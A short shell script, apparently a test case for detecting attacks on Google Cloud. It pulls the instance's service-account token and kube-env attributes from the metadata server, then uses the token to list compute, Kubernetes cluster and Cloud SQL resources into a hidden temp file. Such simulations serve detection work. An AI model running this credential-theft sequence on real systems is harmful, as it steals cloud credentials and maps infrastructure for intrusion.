#!/bin/sh
. /opt/case/case.sh

m=http://169.254.169.254/computeMetadata/v1/instance; h='Metadata-Flavor: Google'
wget -qO- --header "$h" "$m/service-accounts/default/scopes" >/dev/null; wget -qO- --header "$h" "$m/attributes/kube-env" >/dev/null
t=$(wget -qO- --header "$h" "$m/service-accounts/default/token")
for z in a b c; do for k in instances disks networks; do wget -qO- --header "Authorization: Bearer $t" "http://compute.googleapis.com/compute/v1/projects/p/zones/europe-west1-$z/$k" >>/tmp/.l; done; done
wget -qO- --header "Authorization: Bearer $t" http://container.googleapis.com/v1/projects/p/locations/-/clusters >>/tmp/.l
wget -qO- --header "Authorization: Bearer $t" http://sqladmin.googleapis.com/v1/projects/p/instances >>/tmp/.l
test "$(wc -l </tmp/.l)" = 11
took_place
